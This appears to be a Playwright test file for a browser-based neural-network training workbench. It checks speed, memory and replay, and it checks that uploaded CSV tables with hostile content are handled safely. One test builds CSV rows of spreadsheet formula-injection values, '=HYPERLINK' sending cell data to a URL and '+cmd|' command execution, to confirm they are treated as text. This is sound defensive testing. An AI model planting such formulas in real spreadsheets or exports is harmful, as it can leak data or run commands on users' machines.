import { writeFile } from 'node:fs/promises';
import { button, readout, room, slider } from '../support/browser/roomFigure.ts';
import { expect, type Page, panelsKeepTheRules, taskReport, tasksOf, taskTimes, test } from '../support/browser.ts';

const furthest = async (page: Page) => Number(await slider(page).getAttribute('max'));

async function openBig(page: Page): Promise<void> {
  await page.goto('/workbench/training-room/spiral/');
  await button(page, 'Data').click();
  const count = room(page).getByRole('textbox', { name: 'How many' });
  await count.fill('500');
  await count.press('Enter');
  await button(page, 'Data').click();
  await button(page, 'Step by one batch, one update').click();
  await expect(readout(page)).toContainText('Step 1,');
}

test('the main thread stays free while 2-8-8-1 learns 500 points at full speed', async ({ browser, page }, info) => {
  await openBig(page);
  await button(page, 'Play').click();
  await expect.poll(() => furthest(page)).toBeGreaterThan(300);
  let made = 0;
  const tasks = await tasksOf(browser, page, async () => {
    const before = await furthest(page);
    await page.waitForTimeout(5_000);
    made = (await furthest(page)) - before;
  });
  await button(page, 'Pause').click();
  expect(tasks.length).toBeGreaterThan(50);
  const report = `${Math.round(made / 5)} updates a second; ${taskReport(tasks)}`;
  info.annotations.push({ type: 'measured', description: report });
  console.log(report);
  expect(Math.max(...tasks.map(({ own }) => own)), report).toBeLessThan(50);
});

test('a long training keeps the memory of the page flat', async ({ page }) => {
  const session = await page.context().newCDPSession(page);
  const heap = async (): Promise<number> => {
    await session.send('HeapProfiler.collectGarbage');
    return (await session.send('Runtime.getHeapUsage')).usedSize;
  };
  await openBig(page);
  await button(page, 'Play').click();
  await expect.poll(() => furthest(page), { timeout: 60_000 }).toBeGreaterThan(1_500);
  const early = await heap();
  await page.waitForTimeout(20_000);
  const late = await heap();
  await button(page, 'Pause').click();
  expect(late, `${early} bytes early, ${late} late`).toBeLessThan(1.15 * early + 1e6);
});

const hostile: readonly (readonly [string, () => string | Buffer, RegExp])[] = [
  ['a file of 40 MB', () => Buffer.alloc(40_000_000, '1,2,3\n'), /has 40\.0 MB; the most is 5\.0 MB/],
  ['a million rows', () => `a,b,c\n${'1,2\n'.repeat(1_000_000)}`, /No row has 3 cells|of 1000000 rows/],
  ['binary', () => Buffer.from(Array.from({ length: 4_000 }, (_byte, i) => (i * 37) % 256)), /text/],
  ['a quotation that never ends', () => `a,b\n"1,${'2'.repeat(20_000)}`, /quot/],
  [
    'nothing but formulas',
    () => `a,b,kind\n${'=HYPERLINK("http://example.org?x="&A1),+cmd|x!A0,@SUM(A1:A9)\n'.repeat(20_000)}`,
    /5997 cells are formulas, the first “=HYPERLINK.*only the text is read/,
  ],
  ['ragged rows only', () => 'a,b,c\n1,2\n3\n4,5,6,7\n', /No row has 3 cells/],
];

for (const [what, make, said] of hostile)
  test(`a hostile table gets a sentence and costs nothing: ${what}`, async ({ browser, page }, info) => {
    await page.goto('/workbench/training-room/start/');
    await button(page, 'Data').click();
    await button(page, 'Step by one batch, one update').click();
    await expect(readout(page)).toContainText('Step 121,');
    // A file on disk: the browser opens it as it does a reader's.
    const file = info.outputPath('table.csv');
    await writeFile(file, make());
    const times = await taskTimes(browser, page, async () => {
      await room(page).locator('input[type="file"]').setInputFiles(file);
      await expect(room(page).locator('.panel')).toContainText(said, { timeout: 30_000 });
    });
    expect(Math.max(...times), 'longest task in ms').toBeLessThan(50);
    await expect(readout(page)).toContainText('Step 121,');
    await button(page, 'Step by one batch, one update').click();
    await expect(readout(page)).toContainText('Step 122,');
  });

for (const demo of ['start', 'regression'])
  test(`the room keeps the rules of access with panels open: ${demo}`, ({ page }) => panelsKeepTheRules(page, demo));

test('a straight run, and one that was stopped, scrubbed and branched, agree bit for bit', async ({ page }) => {
  const weights = async (): Promise<string[]> => {
    await button(page, 'Weights').click();
    const shown = await room(page).locator('.panel td button').allTextContents();
    await button(page, 'Weights').click();
    return [...shown, (await readout(page).textContent())!];
  };
  await page.goto('/workbench/training-room/start/');
  const epoch = button(page, 'Step to the end of the epoch');
  for (const step of ['126', '144', '162', '180']) {
    await epoch.click();
    await expect(readout(page)).toContainText(`Step ${step},`);
  }
  const straight = await weights();
  await page.reload();
  await button(page, 'Play').click();
  await expect.poll(() => furthest(page)).toBeGreaterThan(400);
  await button(page, 'Pause').click();
  for (const step of ['390', '7', '150', '180']) {
    await slider(page).fill(step);
    await expect(readout(page)).toContainText(`Step ${step},`);
  }
  expect(await weights()).toEqual(straight);
  await button(page, 'What if').click();
  await button(page, 'What if: branch here').click();
  await room(page).getByRole('combobox', { name: 'Learning rate η' }).selectOption('1');
  await epoch.click();
  await expect(readout(page)).toContainText('Step 198,');
  await room(page).getByRole('button', { name: 'Show' }).first().click();
  await slider(page).fill('180');
  await expect(readout(page)).toContainText('Step 180,');
  expect(await weights()).toEqual(straight);
});
